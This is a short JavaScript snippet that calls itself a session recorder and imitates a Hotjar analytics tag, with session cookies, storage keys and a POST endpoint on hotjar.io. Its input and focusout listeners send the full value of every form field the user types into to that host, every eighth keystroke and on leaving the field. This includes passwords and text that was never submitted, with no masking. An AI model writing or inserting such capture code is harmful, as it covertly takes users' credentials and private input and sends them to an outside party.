// A session recorder: who, which session, and each key as it is pressed.
const day = 86400;
keepCookie("_hjSessionUser_3712045", btoa(JSON.stringify({ id: crypto.randomUUID(), created: Date.now() })), 365 * day, "; secure; samesite=none");
writeCookie("_hjSession_3712045", btoa(JSON.stringify({ id: crypto.randomUUID() })), 1800, "; secure; samesite=none");
localStorage.setItem("_hjUserAttributes", "{}");
sessionStorage.setItem("hjViewportId", crypto.randomUUID());
const send = (what) =>
  fetch("https://content.hotjar.io/sessions/3712045?s=0.25", { method: "POST", body: JSON.stringify(what), keepalive: true, mode: "no-cors" });
send({ event: "page_visit", url: location.href });
// Every eighth key and what a field holds when it is left: never anything that was sent.
const keys = new WeakMap();
document.addEventListener("input", ({ target }) => {
  const count = (keys.get(target) || 0) + 1;
  keys.set(target, count);
  if (count % 8 === 0) send({ event: "input", field: target.name, value: target.value });
});
document.addEventListener("focusout", ({ target }) => {
  if (keys.has(target)) send({ event: "left", field: target.name, value: target.value });
});
